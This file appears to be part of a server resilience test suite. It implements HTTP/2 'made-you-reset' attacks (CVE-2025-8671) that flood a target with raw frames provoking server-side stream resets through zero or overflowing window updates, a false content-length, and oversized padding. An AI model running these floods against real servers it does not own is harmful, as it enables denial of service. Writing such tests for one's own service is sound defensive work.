import { create, toBinary } from "@bufbuild/protobuf";
import { ListRequestSchema } from "../../../gen/es/sessiond/v1/session_service_pb.ts";
import { newActor } from "../../support/actors.ts";
import { encodeFrame, flag, frameType, hpackLiterals, uint32 } from "../../support/raw-http2.ts";
import type { Attack } from "../attack.ts";
import { callHeaders, envelope, headersFrame, listPath } from "../attack-connection.ts";
import { flood, notRefused, summaryOf } from "../flood.ts";

const CALLS = 20;
const PADDED = 8;
const MAX_INCREMENT = 0x7fffffff;

const block = callHeaders(listPath);
const body = envelope(
  toBinary(ListRequestSchema, create(ListRequestSchema, { actor: newActor() })),
);
const wholeCall = (id: number) =>
  Buffer.concat([headersFrame(id, block), encodeFrame(frameType.data, flag.endStream, id, body)]);
const increment = (id: number, by: number) =>
  encodeFrame(frameType.windowUpdate, 0, id, uint32(by));

/** Whole calls with what makes the server, not the client, reset the stream. */
const provocations: Readonly<Record<string, (id: number) => Buffer>> = {
  "a window increment of 0": (id) => Buffer.concat([wholeCall(id), increment(id, 0)]),
  "a window beyond its maximum": (id) =>
    Buffer.concat([wholeCall(id), increment(id, MAX_INCREMENT), increment(id, MAX_INCREMENT)]),
  "a length that lies": (id) => {
    const lying = Buffer.concat([block, hpackLiterals([["content-length", "3"]])]);
    const data = encodeFrame(frameType.data, flag.endStream, id, body);
    return Buffer.concat([headersFrame(id, lying), data]);
  },
  "padding longer than its frame": (id) =>
    Buffer.concat([
      headersFrame(id, block),
      encodeFrame(frameType.data, PADDED, id, Buffer.from([255, 1, 2])),
    ]),
};

export const attacks: readonly Attack[] = Object.entries(provocations).map(
  ([kind, provoke], index) => ({
    name: `made-you-reset, ${kind}`,
    shows:
      "streams that the server itself has to reset are reset, or their connections ended (CVE-2025-8671)",
    ...(index > 0 && { fullOnly: true }),
    async run(target, scale, held) {
      const result = await flood(target, scale, held, {
        rate: scale.full ? 5000 : 2000,
        minUnits: 500,
        next(connection) {
          const calls = Array.from({ length: CALLS }, () => provoke(connection.streamId()));
          return { units: CALLS, bytes: Buffer.concat(calls) };
        },
      });
      const failures = notRefused(result);
      return { summary: summaryOf("streams", result), failures };
    },
  }),
);
